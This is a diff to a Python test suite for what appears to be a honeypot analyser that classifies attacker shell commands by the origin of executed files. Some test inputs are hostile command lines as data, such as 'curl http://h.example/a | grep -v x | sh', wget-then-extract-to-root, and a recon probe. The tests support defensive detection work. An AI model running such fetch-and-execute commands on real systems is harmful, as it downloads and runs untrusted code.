@@ -11,7 +11,8 @@ from hypothesis import strategies as st
 
 from decnet.shell import files as files_module
 from decnet.shell import script as module
-from decnet.shell.script import MAX_FACTS, Script, Transfer, read_script
+from decnet.shell.script import MAX_FACTS, Script, read_script
+from decnet.shell.told import Transfer
 
 LINES = st.lists(
     st.one_of(
@@ -52,7 +53,7 @@ def test_where_a_fetched_file_lies_is_told_unless_it_is_only_shown(
     lines: list[str], paths: list[str] | None
 ) -> None:
     assert told(lines).get("fetch.path") == paths
-    assert "fetch.source" in told(lines)
+    assert ("fetch.source" in told(lines)) is (paths is not None)
 
 
 @pytest.mark.parametrize(
@@ -96,10 +97,11 @@ def test_a_fact_names_the_line_that_it_comes_from() -> None:
 
 def test_what_comes_later_adds_to_earlier_lines() -> None:
     lines = ["/usr/lib/quonba", "/opt/quonba", "scp -t /opt/quonba", "/opt/quonba"]
-    assert told(lines, 1) == {"exec.tried_dirs": 1, "exec.via": "direct", "later.exec": ["uploaded"]}
+    assert told(lines, 1) == {"exec.tried_dirs": 2, "exec.via": "direct", "later.exec": ["uploaded"]}
     assert told(lines, 2) == {"exec.tried_dirs": 2, "exec.via": "direct", "later.exec": ["uploaded"]}
     assert told(lines, 4) == {"exec.origin": ["uploaded"], "exec.via": "direct"}
-    assert told(lines[:2], 1) == {"exec.tried_dirs": 1, "exec.via": "direct"}
+    assert told(lines[:1], 1) == {"exec.tried_dirs": 1, "exec.via": "direct"}
+    assert told(lines[:2], 1) == {"exec.tried_dirs": 2, "exec.via": "direct"}
 
 
 def test_what_the_sensor_saw_come_counts_as_well() -> None:
@@ -313,3 +315,51 @@ def test_a_removal_tells_that_nothing_was_done_before_it(lines: list[str], idle:
 )
 def test_a_file_is_a_probe_only_when_the_line_says_all_of_it(line: str, trivial: bool | None) -> None:
     assert told([line]).get("write.trivial") is trivial
+
+
+def origin_of_last(lines: list[str], name: str = "exec.origin") -> list[str] | None:
+    found = [f.values[name] for f in read_script(lines).facts[-1].values() if name in f.values]
+    return found[0] if found else None
+
+
+def test_an_archive_unpacked_into_the_root_makes_not_every_file_its_own() -> None:
+    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /", "/etc/init.d/cron"]) is None
+    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /q", "/q/x"]) == ["extracted"]
+
+
+def test_a_copy_of_a_tool_does_what_the_tool_does_until_another_file_takes_its_name() -> None:
+    lines = ["cp /usr/bin/wget /tmp/w", "/tmp/w -O /tmp/k http://h.example/k", "/tmp/k"]
+    assert origin_of_last(lines) == ["fetched"]
+    assert origin_of_last([lines[0], "cat > /tmp/w", *lines[1:]]) is None
+    assert origin_of_last(["cp /srv/wget /tmp/w", *lines[1:]]) is None
+
+
+def test_what_is_only_printed_is_not_brought_here() -> None:
+    assert origin_of_last(["curl http://h.example/a"], "fetch.source") is None
+    assert origin_of_last(["curl http://h.example/a | wc -l"], "fetch.source") is None
+    assert origin_of_last(["curl http://h.example/a | grep -v x | sh"], "fetch.source") == [
+        "http://h.example/a"
+    ]
+    assert origin_of_last(["curl http://h.example/a | grep x > f"], "fetch.source") == ["http://h.example/a"]
+    assert origin_of_last(["curl -o f http://127.0.0.1/a"], "fetch.source") is None
+
+
+def test_an_empty_file_is_a_probe_when_it_is_removed_as_it_is() -> None:
+    assert origin_of_last(["touch /tmp/.z; rm /tmp/.z"], "write.trivial") is True
+    assert (
+        origin_of_last(["touch /tmp/.z; echo 'id; uname -a; w' > /tmp/.z; rm /tmp/.z"], "write.trivial")
+        is None
+    )
+    assert origin_of_last(["touch /tmp/.z"], "write.trivial") is None
+
+
+def test_a_tar_that_nobody_feeds_unpacks_what_the_client_sends() -> None:
+    assert origin_of_last(["tar xzf - -C /q"], "stdin.origin") == ["client"]
+    assert origin_of_last(["tar xzf - -C /q", "sh /q/go"]) == ["extracted"]
+    assert origin_of_last(["cpio -i < a.cpio"], "stdin.origin") is None
+    assert origin_of_last(["cat a.tar | tar x"], "stdin.origin") is None
+
+
+def test_a_file_of_a_compilers_name_in_another_place_is_no_compiler() -> None:
+    lines = ["wget http://h.example/k.zip", "unzip k.zip", "./k/go"]
+    assert origin_of_last(lines) == ["extracted"]
